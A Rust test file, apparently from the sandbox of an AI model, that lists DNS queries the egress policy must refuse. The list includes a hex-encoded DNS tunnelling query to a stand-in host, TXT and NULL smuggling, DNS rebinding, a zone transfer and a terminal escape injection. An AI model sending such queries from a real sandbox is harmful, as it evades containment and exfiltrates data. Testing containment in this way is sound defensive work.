//! Through the name server, which answers for what the policy names and carries nothing out.

use super::native;
use crate::attempt::{Attempt, Control, Group, Needs, Steps, Way, Word};

const fn asks(id: &'static str, tries: &'static str, ways: &'static [Way]) -> Attempt {
    Attempt { id, group: Group::Egress, tries, control: KNOWN, ways, needs: Needs::NameServer }
}

/// The model's host, which every policy names.
const KNOWN: Control = Control::Steps(Steps::Verb(&[
    Word::Text("dns"),
    Word::Text("inference.local"),
    Word::Text("1"),
    Word::Text("1"),
]));

/// Nobody outside is asked.
const NO_SUCH_NAME: &[&str] = &["NXDOMAIN"];

macro_rules! question {
    ($id:literal, $tries:literal, $name:literal, $kind:literal, $class:literal, $expect:expr) => {
        asks(
            $id,
            $tries,
            &[native(
                Steps::Verb(&[Word::Text("dns"), Word::Text($name), Word::Text($kind), Word::Text($class)]),
                $expect,
            )],
        )
    };
}

pub const ATTEMPTS: &[Attempt] = &[
    question!(
        "name-other-host",
        "the address of a host that no rule names",
        "example.com",
        "1",
        "1",
        NO_SUCH_NAME
    ),
    question!("name-lookalike", "a name below the model's host", "a.inference.local", "1", "1", NO_SUCH_NAME),
    question!(
        "name-tunnel",
        "what somebody wants to carry out, as labels of a name",
        "4d792064656172206472696c6c2c2074686973206973206e6f7420666f722.796f7520746f20726561642e2e2e.t.example.com",
        "1",
        "1",
        NO_SUCH_NAME
    ),
    question!(
        "name-text",
        "what somebody wants to carry in, as TXT",
        "t.example.com",
        "16",
        "1",
        NO_SUCH_NAME
    ),
    question!("name-null", "the same as NULL", "t.example.com", "10", "1", NO_SUCH_NAME),
    question!(
        "name-any",
        "everything about a name (ANY)",
        "example.com",
        "255",
        "1",
        &["NXDOMAIN", "REFUSED", "NOTIMP"]
    ),
    question!("name-reverse", "whose an address is", "1.1.1.1.in-addr.arpa", "12", "1", NO_SUCH_NAME),
    question!(
        "name-rebinding",
        "a name that leads to the loopback (localtest.me)",
        "localtest.me",
        "1",
        "1",
        NO_SUCH_NAME
    ),
    question!("name-chaos", "which program answers (version.bind)", "version.bind", "16", "3", &["REFUSED"]),
    question!("name-transfer", "a whole zone", "example.com", "252", "1", &["NXDOMAIN", "REFUSED", "NOTIMP"]),
    question!(
        "name-escape",
        "a name that draws on the terminal of whoever reads of it",
        "\u{1b}]0;owned\u{7}\u{1b}[2J.example.com",
        "1",
        "1",
        &["NXDOMAIN", "FORMERR", "REFUSED"]
    ),
];
